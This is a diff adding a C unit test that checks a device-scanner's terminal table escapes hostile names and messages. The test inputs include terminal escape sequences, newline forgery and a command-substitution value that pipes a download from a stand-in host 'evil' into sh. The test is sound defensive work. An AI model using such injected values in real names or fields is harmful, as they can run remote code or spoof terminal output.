@@ -10,6 +10,7 @@
 #include "test.h"
 #include "jtree.h"
 #include "lib/util.h"
+#include "lib/escape.h"
 
 static const struct dev_finding *by_name(const struct report *r, const char *name)
 {
@@ -317,6 +318,52 @@ TEST(scan_json_hostile_names)
 	CHECK_STR(jt_str(jt_at(jt_get(root, "problems"), 0), "message"),
 		  "bad line \"\001\002\xef\xbf\xbd\"");
 	yajl_tree_free(root);
+	report_free(&r);
+	state_free(&st);
+}
+
+/* the terminal table never passes a control byte or a byte that is not UTF-8 through */
+TEST(scan_table_hostile_names_escaped)
+{
+	static const char *const names[] = { "ctl\001\002\377", "esc\033]0;pwned\007", "nl\nforged",
+					     "c1\xc2\x9b" "2J", "x $(curl evil|sh)" };
+	struct state st = { .schema = STATE_SCHEMA, .have_dm = true };
+	struct classify_opts o;
+	struct report r;
+	char *out = NULL;
+	size_t len = 0;
+	FILE *f;
+
+	st.host = xstrdup("h\033[2J");
+	for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
+		struct dm_dev *d = array_push(&st.devs, &st.n_devs, sizeof(*d));
+
+		d->name = xstrdup(names[i]);
+		d->uuid = xstrdup("");
+		d->major = 253;
+		d->minor = i;
+	}
+	state_add_problem(&st, "/etc/pve/qemu-server/101.conf\033[2J", "bad line \"\001\033\377\"");
+	classify_opts_default(&o);
+	classify(&st, &o, &r);
+	f = open_memstream(&out, &len);
+	output_table(f, &r);
+	fclose(f);
+	CHECK(utf8_valid(out, len));
+	for (size_t i = 0; i < len; i++) {
+		unsigned char c = out[i];
+
+		if ((c < 0x20 && c != '\n') || c == 0x7f)
+			FAIL_AT("raw control byte 0x%02x at %zu", c, i);
+		if (c == 0xc2 && i + 1 < len && (unsigned char)out[i + 1] < 0xa0)
+			FAIL_AT("raw C1 control at %zu", i);
+	}
+	/* shown escaped, not dropped */
+	CHECK(strstr(out, "host h\\x1b[2J") != NULL);
+	CHECK(strstr(out, "bad line \"\\x01\\x1b\\xff\"") != NULL);
+	CHECK(strstr(out, "101.conf\\x1b[2J input") != NULL);
+	CHECK(strstr(out, "\nforged") == NULL);
+	free(out);
 	report_free(&r);
 	state_free(&st);
 }
